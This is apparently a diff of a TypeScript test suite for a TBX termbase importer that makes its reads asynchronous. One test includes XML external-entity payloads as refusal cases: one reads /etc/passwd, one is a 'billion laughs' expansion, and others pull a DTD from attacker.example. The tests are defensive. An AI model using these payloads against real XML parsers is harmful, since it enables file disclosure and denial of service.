@@ -3,7 +3,6 @@ import { describe, expect, it } from 'vitest';
 import { tbx } from '../../export/exporters/tbx.ts';
 import { buildConcept, buildCorpus, buildDefinition, buildDesignation, buildGlossary } from '../../testing/builders.ts';
 import { hostileTexts } from '../../testing/conformance/exporter.ts';
-import { atOnce } from '../../runtime/in-slices.ts';
 import { readImport } from '../read-import.ts';
 import type { GlossaryLanguages } from './read-tbx.ts';
 
@@ -13,10 +12,10 @@ const glossary = (own: readonly string[], more: Partial<GlossaryLanguages> = {})
   ...more,
 });
 const read = (content: string | Uint8Array, languages = glossary(['en']), fileName = 'terms.tbx') =>
-  atOnce(readImport({ fileName, content }, languages));
-const refusalOf = (content: string | Uint8Array): string => {
+  readImport({ fileName, content }, languages);
+const refusalOf = async (content: string | Uint8Array): Promise<string> => {
   try {
-    read(content);
+    await read(content);
     return 'read';
   } catch (error) {
     return error instanceof Error ? `${(error as { code?: string }).code} ${error.message}` : '';
@@ -86,8 +85,8 @@ const quayEntry = {
 };
 
 describe('a termbase', () => {
-  it('of version 3 in the style DCA is read, and what has no place in a glossary is counted', () => {
-    const { format, entries, left } = read(dca(quay));
+  it('of version 3 in the style DCA is read, and what has no place in a glossary is counted', async () => {
+    const { format, entries, left } = await read(dca(quay));
     expect(format).toBe('tbx');
     expect(entries[0]).toEqual(quayEntry);
     expect(left).toEqual([
@@ -99,7 +98,7 @@ describe('a termbase', () => {
     ]);
   });
 
-  it('of version 3 in the style DCT says the same', () => {
+  it('of version 3 in the style DCT says the same', async () => {
     const dct = dca(quay)
       .replace('style="dca"', 'style="dct" xmlns:basic="http://www.tbxinfo.net/ns/basic"')
       .replaceAll(
@@ -107,11 +106,11 @@ describe('a termbase', () => {
         '<basic:$2$3>$4</basic:$2>',
       );
     expect(dct).toContain('<basic:definition>');
-    expect(read(dct)).toEqual(read(dca(quay)));
+    expect(await read(dct)).toEqual(await read(dca(quay)));
   });
 
-  it('of version 2 is read with its names in parts, its values and what tools write in their place', () => {
-    const { entries, left } = read(
+  it('of version 2 is read with its names in parts, its values and what tools write in their place', async () => {
+    const { entries, left } = await read(
       `<?xml version='1.0'?>
 <!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
 <martif type="TBX" xml:lang="en-US">
@@ -174,8 +173,8 @@ describe('an entry of several languages', () => {
       <descrip type="definition">How high the sea stands.</descrip><termSec><term>tide level</term></termSec>
     </langSec>
   </conceptEntry>`);
-  const namesIn = (languages: GlossaryLanguages) => {
-    const { entries, left } = read(tide, languages);
+  const namesIn = async (languages: GlossaryLanguages) => {
+    const { entries, left } = await read(tide, languages);
     const [entry] = entries;
     return {
       language: entry?.language,
@@ -186,30 +185,33 @@ describe('an entry of several languages', () => {
     };
   };
 
-  it('is of the first language of the glossary that it has; names in its other ones are further names', () => {
-    expect(namesIn(glossary(['nl', 'en', 'ja']))).toEqual({
+  it('is of the first language of the glossary that it has; names in its other ones are further names', async () => {
+    expect(await namesIn(glossary(['nl', 'en', 'ja']))).toEqual({
       language: 'en',
       names: ['tide level preferred', '潮位 admitted'],
       statements: ['How high the sea stands.'],
       unfit: undefined,
       left: ['fr 1', 'definition 1'],
     });
-    expect(namesIn(glossary(['ja']))).toMatchObject({ names: ['潮位 preferred'], left: ['en 1', 'fr 1'] });
+    expect(await namesIn(glossary(['ja']))).toMatchObject({ names: ['潮位 preferred'], left: ['en 1', 'fr 1'] });
   });
 
-  it('takes no name that is an entry of its own', () => {
+  it('takes no name that is an entry of its own', async () => {
     const languages = glossary(['en', 'ja'], { hasEntry: (name) => name === '潮位' });
-    expect(namesIn(languages)).toMatchObject({ names: ['tide level preferred'], left: ['fr 1', 'ja 1'] });
+    expect(await namesIn(languages)).toMatchObject({ names: ['tide level preferred'], left: ['fr 1', 'ja 1'] });
   });
 
-  it('is of the language of the file where nobody knows that of the glossary, and of its first where it has none', () => {
-    expect(namesIn(glossary([]))).toMatchObject({ language: 'en', left: ['fr 1', 'ja 1'] });
-    expect(namesIn(glossary(['nl']))).toMatchObject({ language: 'ja', left: ['en 1', 'fr 1'] });
+  it('is of the language of the file where nobody knows that of the glossary, and of its first where it has none', async () => {
+    expect(await namesIn(glossary([]))).toMatchObject({ language: 'en', left: ['fr 1', 'ja 1'] });
+    expect(await namesIn(glossary(['nl']))).toMatchObject({ language: 'ja', left: ['en 1', 'fr 1'] });
   });
 
-  it('is skipped where it has no name in the language that was asked for', () => {
-    expect(namesIn(glossary(['en'], { told: 'fr' }))).toMatchObject({ names: ['marée preferred'], unfit: undefined });
-    expect(namesIn(glossary(['en'], { told: 'nl' }))).toMatchObject({
+  it('is skipped where it has no name in the language that was asked for', async () => {
+    expect(await namesIn(glossary(['en'], { told: 'fr' }))).toMatchObject({
+      names: ['marée preferred'],
+      unfit: undefined,
+    });
+    expect(await namesIn(glossary(['en'], { told: 'nl' }))).toMatchObject({
       names: ['潮位 preferred'],
       unfit: 'other-language',
       left: ['en 1', 'fr 1', 'ja 1'],
@@ -218,8 +220,8 @@ describe('an entry of several languages', () => {
 });
 
 describe('an entry of one language', () => {
-  it('keeps it, also where nobody has heard of it, and is of that of the file where it tells none', () => {
-    const { entries, left } = read(
+  it('keeps it, also where nobody has heard of it, and is of that of the file where it tells none', async () => {
+    const { entries, left } = await read(
       dca(`<conceptEntry id="a"><langSec xml:lang="xx-none"><descrip type="definition">D.</descrip>
           <termSec><term>zork</term></termSec></langSec></conceptEntry>
         <conceptEntry id="b"><langSec><termSec><term>quay</term><ref type="crossReference" target="a">x</ref></termSec></langSec></conceptEntry>`),
@@ -234,9 +236,9 @@ describe('an entry of one language', () => {
 });
 
 describe('an entry that has only names that are not to be used', () => {
-  it('is skipped, so that none of them is preferred', () => {
+  it('is skipped, so that none of them is preferred', async () => {
     const status = '<termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>';
-    const { entries } = read(
+    const { entries } = await read(
       dca(
         `<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>key</term>${status}</termSec></langSec></conceptEntry>`,
       ),
@@ -259,21 +261,23 @@ describe('a file that cannot be read as a termbase', () => {
       Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-8"?><tbx>'), Buffer.from([0xff, 0xe9, 0x3c])]),
       /not in the encoding that it names/u,
     ],
-  ])('is refused with the place where it %s', (_, content, why) => {
-    expect(refusalOf(content)).toMatch(/^import\/invalid /u);
-    expect(refusalOf(content)).toMatch(why);
+  ])('is refused with the place where it %s', async (_, content, why) => {
+    expect(await refusalOf(content)).toMatch(/^import\/invalid /u);
+    expect(await refusalOf(content)).toMatch(why);
   });
 
-  it('is refused where it declares entities, of whatever kind, and none is ever resolved', () => {
+  it('is refused where it declares entities, of whatever kind, and none is ever resolved', async () => {
     const declared = (entity: string) => dca('').replace('<tbx', `<!DOCTYPE tbx [${entity}]><tbx`);
     for (const entity of [
       '<!ENTITY secret SYSTEM "file:///etc/passwd">',
       '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">',
       '<!ENTITY % all SYSTEM "http://attacker.example/all.dtd"> %all;',
     ]) {
-      expect(refusalOf(declared(entity))).toMatch(/^import\/invalid .*entities of its own/u);
+      expect(await refusalOf(declared(entity))).toMatch(/^import\/invalid .*entities of its own/u);
     }
-    const { entries } = read(dca(quay).replace('<tbx', '<!DOCTYPE tbx SYSTEM "http://attacker.example/all.dtd"><tbx'));
+    const { entries } = await read(
+      dca(quay).replace('<tbx', '<!DOCTYPE tbx SYSTEM "http://attacker.example/all.dtd"><tbx'),
+    );
     expect(entries[0]).toEqual(quayEntry);
   });
 });
@@ -282,13 +286,13 @@ const file = (encoding: string, term: string) =>
   dca(
     `<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>${term}</term></termSec></langSec></conceptEntry>`,
   ).replace('UTF-8', encoding);
-const termOf = (content: Uint8Array) => read(content).entries[0]?.names[0]?.text;
+const termOf = async (content: Uint8Array) => (await read(content)).entries[0]?.names[0]?.text;
 
 describe('the encoding of a termbase', () => {
-  it('is the one that it names, else the one that its bytes show', () => {
-    expect(termOf(Buffer.from(file('ISO-8859-2', 'B\u00b3ysk'), 'latin1'))).toBe('Błysk');
-    expect(termOf(Buffer.from(`\ufeff${file('UTF-16', 'quai d’été')}`, 'utf16le'))).toBe('quai d’été');
-    expect(termOf(Buffer.from(file('nobody-knows', 'quai d’été')))).toBe('quai d’été');
+  it('is the one that it names, else the one that its bytes show', async () => {
+    expect(await termOf(Buffer.from(file('ISO-8859-2', 'B\u00b3ysk'), 'latin1'))).toBe('Błysk');
+    expect(await termOf(Buffer.from(`\ufeff${file('UTF-16', 'quai d’été')}`, 'utf16le'))).toBe('quai d’été');
+    expect(await termOf(Buffer.from(file('nobody-knows', 'quai d’été')))).toBe('quai d’été');
   });
 });
 
@@ -296,9 +300,9 @@ describe('the encoding of a termbase', () => {
 const unholdable = /[\0-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/gu;
 
 describe('our own export', () => {
-  it('is read with every text as it was, but for characters that no XML file can hold', () => {
-    fc.assert(
-      fc.property(fc.constantFrom(...hostileTexts), fc.string({ unit: 'binary' }), (hostile, any) => {
+  it('is read with every text as it was, but for characters that no XML file can hold', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.constantFrom(...hostileTexts), fc.string({ unit: 'binary' }), async (hostile, any) => {
         const text = `${hostile}${any}x`.toWellFormed().replace(unholdable, '');
         const document = 'docs/a: b.md';
         const corpus = buildCorpus({ [document]: `\r\n One\n${text} two` });
@@ -316,7 +320,7 @@ describe('our own export', () => {
           note: text,
         });
         const glossaryOfIt = buildGlossary({ documents: corpus.documents, concepts: [concept] });
-        const { entries, left } = read([...tbx.write(glossaryOfIt, {})].join(''));
+        const { entries, left } = await read([...tbx.write(glossaryOfIt, {})].join(''));
         const passage = { document, quote: `${text} two` };
         expect(entries).toEqual([
           {
